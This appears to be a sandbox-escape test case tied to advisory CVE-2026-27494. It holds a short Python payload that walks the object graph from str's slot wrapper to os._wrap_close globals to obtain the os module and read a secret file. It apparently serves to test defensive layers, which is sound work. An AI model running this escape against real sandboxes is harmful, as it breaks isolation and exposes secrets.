# class: object graph walk
# technique: a slot wrapper knows its class, which is the root class
# advisory: CVE-2026-27494
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
classes = str.__init__.__objclass__.__subclasses__()
g = [c for c in classes if str(c) == "<class 'os._wrap_close'>"][0].__init__.__globals__
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
